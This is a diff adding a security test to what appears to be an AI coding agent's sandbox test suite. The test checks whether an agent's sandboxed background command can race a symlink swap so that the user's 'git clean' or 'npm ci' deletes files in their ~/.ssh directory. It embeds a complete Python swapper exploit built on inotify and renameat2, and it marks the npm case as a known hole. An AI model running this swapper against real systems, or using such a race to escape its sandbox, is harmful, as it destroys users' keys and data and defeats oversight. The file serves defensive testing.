@@ -601,3 +601,114 @@ for (const [mode, toolName] of [
     },
   );
 }
+
+// ---------------------------------------------------------------------------------------------------
+// R8: the person's own cleanup while a session's command runs (a background task, a dev server of
+// the agent's). docs/security.md takes the person's git DURING a sandboxed command into account (the
+// fsmonitor rows); its recursive deletes are not: `git clean -fdx` (builtin/clean.c walks by path) or
+// Node's `fs.rm` (npm ci's and rimraf's removal of node_modules) follow a directory the command
+// swaps for a symlink to the person's directory (the swapper of integration/red-issue30-r R1).
+const SSH_NAMES = ['id_rsa', 'id_ed25519', 'authorized_keys', 'known_hosts', 'config'];
+function swapperCommand(target: string, dir: string, secs: number): string {
+  return [
+    `mkdir -p ${dir} && cd ${dir} && /usr/bin/python3 - <<'PY'`,
+    'import ctypes, os, shutil, signal',
+    `signal.alarm(${secs})`,
+    'libc = ctypes.CDLL(None, use_errno=True)',
+    "chain = '/'.join(str(i) for i in range(40))",
+    'for k in range(10):',
+    "    os.mkdir('a%d' % k)",
+    "    os.makedirs('z%d/%s' % (k, chain))",
+    "order = os.listdir('.')",
+    "a = next(n for n in order if n.startswith('a') and any(m.startswith('z') for m in order[order.index(n):]))",
+    "z = next(m for m in order[order.index(a):] if m.startswith('z'))",
+    'for n in order:',
+    '    if n not in (a, z):',
+    '        shutil.rmtree(n)',
+    "l = '%s/%s/l' % (z, chain)",
+    `os.symlink(${JSON.stringify(target)}, l)`,
+    "s = a + '/.ssh'",
+    'os.mkdir(s)',
+    `names = ${JSON.stringify(SSH_NAMES)}`,
+    'for n in names:',
+    "    open(s + '/' + n, 'w').close()",
+    'i = 0',
+    'while True:',
+    '    for _ in range(1000):',
+    "        open('%s/f%d' % (s, i), 'w').close()",
+    '        i += 1',
+    '    ls = os.listdir(s)',
+    '    last = max(ls.index(n) for n in names)',
+    '    if last >= 2500 or i >= 40000:',
+    '        break',
+    'for n in ls[last + 1:]:',
+    "    os.unlink(s + '/' + n)",
+    'fd = libc.inotify_init()',
+    'libc.inotify_add_watch(fd, s.encode(), 0x200)',
+    "open('../READY', 'w').close()",
+    'os.read(fd, 4096)',
+    "print('swapped', libc.renameat2(-100, a.encode(), -100, l.encode(), 2), flush=True)",
+    'PY',
+  ].join('\n');
+}
+
+for (const [name, clean] of [
+  ['git clean -fdx', (root: string) => personGit(root, 'clean', '-fdxq')],
+  [
+    'npm ci',
+    (root: string) => {
+      try {
+        execFileSync('npm', ['ci', '--no-audit', '--no-fund', '--offline'], {
+          cwd: root,
+          env: { ...process.env, HOME: home, PERSON_SECRET: 'BAIT-R-person' },
+          stdio: 'ignore',
+          timeout: 60_000,
+        });
+      } catch {
+        // a failed install still removed what it removed
+      }
+    },
+  ],
+] as const) {
+  test(
+    `R8 (dontAsk): a session’s running command swaps a directory of node_modules while the person runs ${name} — none of the person’s files is removed`,
+    // git clean gives up a directory at its first lstat error (builtin/clean.c remove_dirs): held.
+    name === 'git clean -fdx'
+      ? {}
+      : hole(`R8: the person’s ${name} during a session’s command follows a swapped directory`),
+    async (t) => {
+      if (skip) return t.skip(skip);
+      const root = project((r) => {
+        writeFileSync(path.join(r, '.gitignore'), 'node_modules/\n');
+        writeFileSync(path.join(r, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', private: true }));
+        writeFileSync(
+          path.join(r, 'package-lock.json'),
+          JSON.stringify({
+            name: 'app',
+            version: '1.0.0',
+            lockfileVersion: 3,
+            requires: true,
+            packages: { '': { name: 'app', version: '1.0.0' } },
+          }),
+        );
+      });
+      const victim = path.join(home, `person-r8-${name.split(' ')[0]}`);
+      for (const n of SSH_NAMES) {
+        mkdirSync(path.join(victim, '.ssh'), { recursive: true });
+        writeFileSync(path.join(victim, '.ssh', n), `the person's ${n}\n`);
+      }
+      const running = tool(root, 'dontAsk', 'Bash', {
+        command: swapperCommand(victim, 'node_modules/cache', 90),
+        timeout: 120_000,
+      });
+      const ready = path.join(root, 'node_modules', 'READY');
+      for (let i = 0; i < 180 && !existsSync(ready); i++) await new Promise((r) => setTimeout(r, 500));
+      t.diagnostic(`ready: ${existsSync(ready)}`);
+      clean(root);
+      const out = await running;
+      t.diagnostic(`${out.status}: ${out.text.slice(0, 300)}`);
+      const removed = SSH_NAMES.filter((n) => !existsSync(path.join(victim, '.ssh', n)));
+      assert.deepEqual({ removedInHome: removed }, { removedInHome: [] });
+    },
+  );
+}
